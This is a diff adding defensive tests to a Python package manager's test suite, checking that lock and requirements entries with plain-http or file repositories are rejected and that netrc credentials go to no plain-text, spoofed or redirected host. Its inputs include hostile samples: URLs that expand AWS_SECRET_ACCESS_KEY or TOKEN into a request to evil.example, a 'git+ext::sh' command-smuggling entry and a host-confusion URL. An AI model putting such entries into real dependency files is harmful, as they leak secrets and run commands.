@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import netrc
 import os
 import tempfile
 import threading
@@ -14,6 +15,7 @@ from gitml.core.model.environment import EnvironmentSource, EnvironmentSpec
 from gitml.core.planner.project_files import settings_in
 from gitml.errors import InputError
 from gitml.execute.environments.conda.packages import pypi_package
+from gitml.execute.environments.index_passwords import passwords_for
 from gitml.execute.environments.locks.requirements import parse_requirements
 from gitml.execute.environments.locks.selection import select
 from gitml.execute.environments.locks.target import target_of
@@ -103,6 +105,7 @@ def test_nothing_of_a_pylock_becomes_more_words_another_file_or_what_can_change(
         f"a @ git+ext::sh@{COMMIT}",
         f"a @ git+file:///home/user/secret@{COMMIT}",
         f"a @ git+https://x.example/a@main --hash=sha256:{SHA}",
+        f"a @ git+http://x.example/a@{COMMIT}",
         f"a @ git+https://x.example/a@{COMMIT}#subdirectory=../..",
         f"a @ https://evil.example/${{AWS_SECRET_ACCESS_KEY}}.tar.gz --hash=sha256:{SHA}",
         "a @ https://x.example/a.tar.gz#sha256=",
@@ -120,6 +123,39 @@ def test_no_line_of_a_requirements_file_is_anything_but_a_package(line: str) -> 
 def test_packages_of_pypi_in_a_conda_lock_name_no_variable_of_the_user() -> None:
     with pytest.raises(InputError, match="without a URL"):
         pypi_package("x:1", "a", "1", f"sha256:{SHA}", "https://evil.example/${TOKEN}/a-1-py3-none-any.whl")
+
+
+@pytest.mark.parametrize("place", ["http://x.example/a", "file:///home/user/a"])
+def test_a_repository_in_a_conda_lock_is_reached_by_https_or_ssh_alone(place: str) -> None:
+    with pytest.raises(InputError, match="repository at"):
+        pypi_package("x:1", "a", "1", "", f"git+{place}@{COMMIT}")
+
+
+NETRC = """\
+machine own.example login u password one
+machine tls.example login u password "two \\" words"
+machine plain.example login u password three
+machine 127.0.0.1 login u password four
+machine other.example login u password five
+default login u password six
+"""
+
+
+def test_a_lock_has_no_password_sent_in_plain_text_nor_where_a_redirect_leads(tmp_path: Path) -> None:
+    (tmp_path / "netrc").write_text(NETRC)
+    of_lock = (
+        f"a @ https://tls.example/a.whl --hash=sha256:{SHA}",
+        "http://plain.example/simple",
+        "http://127.0.0.1:8000/simple",
+        "https://evil.example/https:other.example/",
+        "https://other.example@evil.example/",
+        "https://[broken/",
+    )
+    given = passwords_for(str(tmp_path / "netrc"), ["http://own.example/simple https://u:p@x.example"], of_lock)
+    (tmp_path / "given").write_text(given)
+    hosts = netrc.netrc(tmp_path / "given").hosts
+    passwords = {host: password for host, (_, _, password) in hosts.items()}
+    assert passwords == {"own.example": "one", "tls.example": 'two " words', "127.0.0.1": "four"}
 
 
 @pytest.mark.parametrize(
